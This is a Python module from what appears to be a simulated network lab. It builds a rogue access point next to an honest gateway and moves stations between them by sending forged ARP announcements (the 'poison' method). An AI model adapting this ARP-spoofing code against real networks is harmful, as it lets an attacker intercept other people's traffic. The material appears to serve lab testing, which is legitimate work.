"""Two gateways on one network, and which of them a station takes for its own.

    attacker           honest gateway (the namespace of the honest access point)
    ap0  192.168.43.1    shared0  192.168.43.1
      |                     |
      +------ bridge -------+------ port0 ------ wlan0, a station

Both have the router's address. A station goes to whoever it last believed to have it (ARP): the
attacker where he owns the network, the honest gateway where that is a network like any other, and
the attacker again once he has told the station that the address is his.
"""

from __future__ import annotations

import socket
import threading
from dataclasses import dataclass, field

from lab.model.serving import Gateway
from lab.network.kernel import arp, rules
from lab.network.kernel.access_point import BRIDGE, ROUTER, AccessPoint, Door, switch
from lab.network.kernel.namespace import link

PORT, INTERFACE = "gateway0", rules.SHARED
HONEST = bytes.fromhex(rules.HONEST.replace(":", ""))


@dataclass(slots=True)
class Gateways:
    """Leads stations to one gateway or to the other. May be used from any thread. Use ``close``.

    ``rogue`` is the attacker's network, ``home`` has the honest gateway. Raises OSError.
    """

    rogue: AccessPoint
    home: AccessPoint
    _attackers: socket.socket = field(init=False)
    _honest: socket.socket = field(init=False)
    _guests: set[str] = field(default_factory=set)
    """Stations whose gateway is, or was, the honest one."""
    _lock: threading.Lock = field(default_factory=threading.Lock)

    def __post_init__(self) -> None:
        rogue, home = self.rogue.namespace, self.home.namespace
        link(rogue, PORT, home, INTERFACE)
        rogue.ip(f"link set {PORT} addrgenmode none", f"link set {PORT} master {BRIDGE} up")
        home.ip(
            f"link set {INTERFACE} address {rules.HONEST} addrgenmode none",
        )
        switch(home, INTERFACE, "disable_ipv6", "1")
        home.ip(
            f"link set {INTERFACE} up",
            f"address add {self.rogue.router}/24 dev {INTERFACE}",
        )
        self._attackers = _speaker(self.rogue, BRIDGE)
        try:
            self._honest = _speaker(self.home, INTERFACE)
        except BaseException:
            self._attackers.close()
            raise

    def admit(self, rogue: Door, home: Door) -> None:
        """Let a station that has these doors find its way, if it comes to the honest gateway.
        Raises OSError."""
        self.home.filter(rules.admitted(home.way_of(rogue.station)))

    def lead(self, door: Door, to: Gateway) -> None:
        """Let a station take this one for its gateway from now on. Raises OSError."""
        with self._lock:
            if to is Gateway.OWNER and door.station not in self._guests:
                return
            if to is Gateway.OWNER:
                self._guests.discard(door.station)
                self._filter(rules.no_guest(door.station, door.address))
                self.poison(door)
                return
            if door.station not in self._guests:
                self._guests.add(door.station)
                self._filter(rules.guest(door.station, door.address))
            # What is poisoned is a station that has found its gateway.
            self._tell(self._honest, HONEST, door)
            if to is Gateway.POISONED:
                self.poison(door)

    def poison(self, door: Door) -> None:
        """Tell a station that the router's address is the attacker's. Raises OSError."""
        self._tell(self._attackers, ROUTER, door)

    def close(self) -> None:
        """Say nothing more."""
        self._attackers.close()
        self._honest.close()

    def _filter(self, text: str) -> None:
        self.rogue.filter(text)
        self.home.filter(text)

    def _tell(self, speaker: socket.socket, who: bytes, door: Door) -> None:
        speaker.send(arp.announcement(self.rogue.router, who, door.hardware_address))


def _speaker(network: AccessPoint, interface: str) -> socket.socket:
    """Return what frames can be sent with from an interface. Raises OSError."""
    # Of no protocol: it is not there to listen.
    sock = network.namespace.socket(socket.AF_PACKET, socket.SOCK_RAW)
    try:
        sock.bind((interface, 0))
    except BaseException:
        sock.close()
        raise
    return sock
